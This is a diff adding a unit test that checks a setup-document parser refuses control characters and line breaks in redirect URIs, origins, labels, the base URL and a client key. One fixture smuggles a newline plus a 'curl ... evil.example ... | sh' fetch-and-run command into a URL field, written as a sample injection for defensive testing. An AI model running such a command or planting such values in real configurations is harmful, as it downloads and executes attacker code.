@@ -237,3 +237,33 @@ describe('addresses typed without their scheme', () => {
     expect(documentAddressProblems(fine)).toEqual([]);
   });
 });
+
+describe('line breaks and control characters, refused in every address and name', () => {
+  // The URL parser drops them, so new URL accepts the address; a file line would not survive it.
+  const INJECTED = 'https://x.example.com/a\ncurl -s https://evil.example/p|sh;: /callback';
+
+  it('the schemas refuse them in redirect URIs, origins, the base URL, names and the client key', () => {
+    const document = createSetupDocument({ id: 'control', preset: 'kestra' });
+    const edits = [
+      { ...document, app: { ...document.app, redirectUris: [INJECTED] } },
+      { ...document, app: { ...document.app, postLogoutRedirectUris: ['https://a.example/\r'] } },
+      { ...document, app: { ...document.app, label: 'Kestra\n# evil' } },
+      { ...document, target: { ...document.target, baseUrl: 'http://localhost:8080\tx' } },
+      { ...document, target: { ...document.target, clientKey: 'okta\u0000' } },
+      {
+        ...document,
+        trustedOrigins: [{ name: 'o', origin: 'https://a.example\n', scopes: ['CORS' as const] }],
+      },
+    ];
+    for (const edited of edits) {
+      let problems: string[] = [];
+      try {
+        parseSetupDocument(edited);
+      } catch (error) {
+        problems = error instanceof SetupDocumentError ? error.problems : [];
+      }
+      expect(problems.join('\n')).toMatch(/control character/);
+    }
+    expect(() => parseSetupDocument(document)).not.toThrow();
+  });
+});
